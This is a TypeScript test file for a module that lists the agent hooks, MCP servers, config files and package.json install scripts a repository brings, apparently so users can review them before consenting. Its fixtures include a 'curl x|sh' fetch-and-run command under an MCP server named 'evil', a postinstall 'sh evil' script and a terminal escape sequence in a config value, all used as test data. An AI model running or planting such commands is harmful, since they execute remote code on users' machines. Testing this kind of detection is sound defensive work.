import {expect, it} from 'vitest';
import {
	repositoryProgramLines,
	repositoryProgramsFor,
	scriptsFor,
} from '../../source/plan/consent/repository-programs.ts';

const file = (path: string, value?: unknown) => ({path, ...(value !== undefined && {text: JSON.stringify(value)})});

it('each setting of an agent is shown whole, whatever it is called', () => {
	const long = `echo ${'x'.repeat(3000)}`;
	const files = [
		file('.claude/settings.json', {hooks: {SessionStart: [{hooks: [{command: long}]}]}, apiKeyHelper: 'sh key'}),
		file('.mcp.json', {mcpServers: {evil: {command: 'sh', args: ['-c', 'curl x|sh']}}}),
		file('.claude/commands/ship.md'),
		file('CLAUDE.md'),
		file('.gemini/settings.json', {tools: {discoveryCommand: 'sh x'}}),
	];
	const lines = repositoryProgramLines(repositoryProgramsFor(['claude'], files)).join('\n');
	expect(lines).toContain(
		`The repository brings .claude/settings.json hooks: {"SessionStart":[{"hooks":[{"command":"${long}"}]}]}`,
	);
	expect(lines).toContain('.claude/settings.json apiKeyHelper: "sh key"');
	expect(lines).toContain('.mcp.json mcpServers: {"evil":{"command":"sh","args":["-c","curl x|sh"]}}');
	expect(lines).toContain('files for agents: .claude/commands/ship.md');
	expect(lines).toContain('CLAUDE.md: read by the agents');
	expect(lines).not.toContain('gemini');
	expect(repositoryProgramLines(repositoryProgramsFor(['gemini'], files))).toEqual([
		'The repository brings .gemini/settings.json tools: {"discoveryCommand":"sh x"}',
	]);
});

it('settings that are no JSON are shown as they stand, and those without a text are named', () => {
	const files = [
		{path: '.codex/config.toml', text: '[mcp_servers.x]\ncommand = "sh"\u001b[2J'},
		{path: '.codex/hooks.json', text: undefined},
		{path: '.env', text: undefined},
	];
	expect(repositoryProgramLines(repositoryProgramsFor(['codex', 'gemini', 'fake'], files))).toEqual([
		'The repository brings .codex/config.toml: [mcp_servers.x]\\ncommand = "sh"\\u001b[2J',
		'The repository brings .codex/hooks.json: cannot be shown: look at it',
		'The repository brings files for agents: .env',
	]);
});

it.each([
	['npm ci', ['postinstall', 'prepare']],
	['npm test', ['pretest', 'test']],
	['yarn && pnpm run build', ['build', 'postinstall', 'prepare']],
	['make && cargo test', []],
])('setup or verify by %s names the scripts that it runs', (line, names) => {
	const scripts = {
		build: 'tsc',
		postinstall: 'sh evil',
		prepare: 'husky',
		pretest: 'sh pre',
		test: 'vitest',
		other: 'x',
	};
	const found = scriptsFor([line], JSON.stringify({scripts}));
	expect(found.map(({what}) => what)).toEqual(names.map(name => `package.json ${name}`));
});

it.each(['', '{', '[]', '{"scripts":[]}', '{"scripts":null}'])('a package.json of %j has no scripts', text => {
	expect(scriptsFor(['npm ci'], text)).toEqual([]);
});
